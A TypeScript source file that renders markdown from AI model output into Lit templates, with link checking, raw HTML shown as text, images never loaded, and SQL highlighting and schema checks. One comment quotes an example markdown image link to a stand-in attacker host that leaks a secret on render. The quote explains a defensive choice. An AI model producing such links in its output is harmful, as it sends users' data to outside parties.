// Renders markdown tokens (lex-markdown.ts) to Lit templates with text and attribute bindings only: model
// output never reaches innerHTML, raw HTML shows as text, links are checked, images never load,
// SQL code blocks are highlighted (highlight-sql.ts).

import { html, nothing, type TemplateResult } from 'lit';
import type { SqlCheck, SqlCheckBlock, UnknownIdentifier } from '../../sdk/protocol.js';
import { checkIcon, copyIcon, infoIcon, warningIcon } from '../icons.js';
import type { SchemaChatStrings } from '../schema-chat-strings.js';
import { highlightSql, isSqlCode } from './highlight-sql.js';
import type { BlockToken, InlineToken } from './lex-markdown.js';
import { toSafeHref } from './to-safe-href.js';

/** The texts the markdown renderer shows. */
export type MarkdownStrings = Pick<
  SchemaChatStrings,
  | 'copy'
  | 'copied'
  | 'copyFailed'
  | 'image'
  | 'table'
  | 'sqlCheckOk'
  | 'sqlCheckUnknown'
  | 'sqlCheckSuggestion'
  | 'sqlCheckUnparsed'
  | 'sqlCheckLabel'
>;

/** What rendering needs besides the tokens. */
export interface MarkdownContext {
  strings: MarkdownStrings;
  /** The server's check of the answer's SQL blocks, shown under each (once the answer has ended). */
  sqlCheck?: SqlCheck;
  /**
   * Fenced code blocks rendered so far, in document order: the index of the next one (the SQL
   * check numbers them so). Set by the caller before rendering a block.
   */
  fences?: { next: number };
}

/** Something Lit renders in a child position. */
export type Renderable = TemplateResult | string | typeof nothing | Renderable[];

/** Renders one block-level token (paragraph, heading, list, table, code, quote, rule, raw HTML). */
export function renderBlockToken(token: BlockToken, context: MarkdownContext): Renderable {
  switch (token.type) {
    case 'paragraph':
      return html`<p>${renderInlineTokens(token.tokens, context)}</p>`;
    case 'text':
      // The body of a tight list item: no paragraph spacing.
      return renderInlineTokens(token.tokens, context);
    case 'heading':
      return html`<p class="heading h${token.depth}" role="heading" aria-level=${Math.min(6, token.depth + 2)}>${renderInlineTokens(token.tokens, context)}</p>`;
    case 'code': {
      const index = token.fenced && context.fences ? context.fences.next++ : undefined;
      const check =
        index === undefined
          ? undefined
          : context.sqlCheck?.blocks.find((block) => block.index === index);
      return renderCodeBlock(token.text, token.lang, context, check);
    }
    case 'blockquote':
      return html`<blockquote>${renderBlockTokens(token.tokens, context)}</blockquote>`;
    case 'list': {
      const items = token.items.map(
        (item) =>
          html`<li>${item.task ? (item.checked ? '☑ ' : '☐ ') : ''}${renderBlockTokens(item.tokens, context)}</li>`,
      );
      if (!token.ordered) return html`<ul>${items}</ul>`;
      return html`<ol start=${token.start === 1 ? nothing : token.start}>${items}</ol>`;
    }
    case 'table': {
      const cell = (tokens: InlineToken[], column: number, header: boolean) => {
        const align = token.align[column];
        const className = align ? `align-${align}` : '';
        const content = renderInlineTokens(tokens, context);
        return header
          ? html`<th class=${className}>${content}</th>`
          : html`<td class=${className}>${content}</td>`;
      };
      // A wide table scrolls sideways: focusable and named, so keyboard users can scroll it too.
      return html`<div class="table-wrap" role="region" tabindex="0" aria-label=${context.strings.table}><table>
        <thead><tr>${token.header.map((tokens, column) => cell(tokens, column, true))}</tr></thead>
        <tbody>${token.rows.map((row) => html`<tr>${row.map((tokens, column) => cell(tokens, column, false))}</tr>`)}</tbody>
      </table></div>`;
    }
    case 'hr':
      return html`<hr />`;
    case 'html':
      // Raw HTML is shown, never interpreted.
      return html`<p class="raw">${token.raw}</p>`;
    default:
      // Blank lines and link definitions show nothing.
      return nothing;
  }
}

/** Renders a sequence of block tokens. */
export function renderBlockTokens(tokens: BlockToken[], context: MarkdownContext): Renderable {
  return tokens.map((token) => renderBlockToken(token, context));
}

/** Renders inline tokens: text, emphasis, code spans, checked links, images as text, breaks. */
export function renderInlineTokens(tokens: InlineToken[], context: MarkdownContext): Renderable {
  return tokens.map((token): Renderable => {
    switch (token.type) {
      case 'text':
        return token.text;
      case 'strong':
        return html`<strong>${renderInlineTokens(token.tokens, context)}</strong>`;
      case 'em':
        return html`<em>${renderInlineTokens(token.tokens, context)}</em>`;
      case 'del':
        return html`<del>${renderInlineTokens(token.tokens, context)}</del>`;
      case 'codespan':
        return html`<code>${token.text}</code>`;
      case 'br':
        return html`<br />`;
      case 'link': {
        const label = renderInlineTokens(token.tokens, context);
        // The lexer already resolved escapes and references in the destination.
        const href = toSafeHref(token.href, false);
        if (!href) return label;
        return html`<a part="link" href=${href} title=${token.title ?? nothing} target="_blank" rel="noopener noreferrer nofollow">${label}</a>`;
      }
      case 'image':
        // Never loaded: a remote image in model output is a data-exfiltration channel
        // (`![x](https://evil.example/?q=<secret>)` leaks on render, no click needed).
        return html`<span class="image-alt">[${context.strings.image}${token.alt ? `: ${token.alt}` : ''}]</span>`;
    }
    return nothing;
  });
}

// The <pre> is focusable: long lines scroll sideways, and keyboard users must be able to scroll them.
function renderCodeBlock(
  code: string,
  lang: string,
  context: MarkdownContext,
  check: SqlCheckBlock | undefined,
): TemplateResult {
  const { copy } = context.strings;
  return html`<div class="code-block" part="code-block">
    <div class="code-bar"><span class="code-lang">${lang}</span><button
      type="button"
      class="copy"
      part="button copy-button"
      aria-label=${copy}
      title=${copy}
      @click=${(event: Event) => copyCode(event.currentTarget as HTMLButtonElement, code, context)}
    >${copyIcon}</button></div>
    <pre tabindex="0"><code>${isSqlCode(lang, code) ? highlightSql(code) : code}</code></pre>
  </div>${check ? renderSqlCheck(check, context.strings) : nothing}`;
}

/**
 * The verdict under a SQL block: quiet when it fits the schema, a visible warning naming each
 * unknown table or column (with its real table) and the closest real name. Part of the answer's
 * text, so screen readers read it with the answer.
 */
function renderSqlCheck(check: SqlCheckBlock, strings: MarkdownStrings): TemplateResult {
  const label = strings.sqlCheckLabel;
  if (check.status !== 'unknown-identifiers') {
    const text = check.status === 'ok' ? strings.sqlCheckOk : strings.sqlCheckUnparsed;
    return html`<p class="sql-check" part="sql-check" data-status=${check.status} role="note" aria-label=${label}>${check.status === 'ok' ? checkIcon : infoIcon}<span>${text}</span></p>`;
  }
  return html`<div class="sql-check" part="sql-check" data-status=${check.status} role="note" aria-label=${label}>
    <ul>${check.unknown.map((unknown) => {
      const { name, suggestion } = describeUnknown(unknown);
      return html`<li>${warningIcon}<span>${formatParts(strings.sqlCheckUnknown, { name })}${
        suggestion ? formatParts(strings.sqlCheckSuggestion, { suggestion }) : nothing
      }</span></li>`;
    })}</ul>
  </div>`;
}

/**
 * How an unknown name reads to the user: a column with its real table (`authors.ful_name` for
 * `a.ful_name`), and a suggestion in the same form (`authors.full_name`).
 */
export function describeUnknown(unknown: UnknownIdentifier): { name: string; suggestion?: string } {
  if (unknown.kind === 'table' || unknown.table === undefined) {
    return unknown.suggestion === undefined
      ? { name: unknown.name }
      : { name: unknown.name, suggestion: unknown.suggestion };
  }
  const column = unknown.name.slice(unknown.name.lastIndexOf('.') + 1);
  const name = `${unknown.table}.${column}`;
  if (unknown.suggestion === undefined) return { name };
  return {
    name,
    suggestion: unknown.suggestion.includes('.')
      ? unknown.suggestion
      : `${unknown.table}.${unknown.suggestion}`,
  };
}

/** A string with its `{placeholders}` as code spans, without any HTML string. */
function formatParts(template: string, values: Record<string, string>): Renderable[] {
  return template
    .split(/(\{\w+\})/)
    .filter((part) => part !== '')
    .map((part) => {
      const key = /^\{(\w+)\}$/.exec(part)?.[1];
      const value = key === undefined ? undefined : values[key];
      return value === undefined ? part : html`<code>${value}</code>`;
    });
}

/** Copies a code block through the Clipboard API and says so on the button for a moment. */
async function copyCode(
  button: HTMLButtonElement,
  code: string,
  context: MarkdownContext,
): Promise<void> {
  const { copy, copied, copyFailed } = context.strings;
  let label = copied;
  try {
    await navigator.clipboard.writeText(code);
    button.dataset.state = 'copied';
  } catch {
    // Permission denied or no secure context: say so rather than pretend.
    label = copyFailed;
    button.dataset.state = 'failed';
  }
  button.setAttribute('aria-label', label);
  button.title = label;
  setTimeout(() => {
    button.setAttribute('aria-label', copy);
    button.title = copy;
    delete button.dataset.state;
  }, 1500);
}
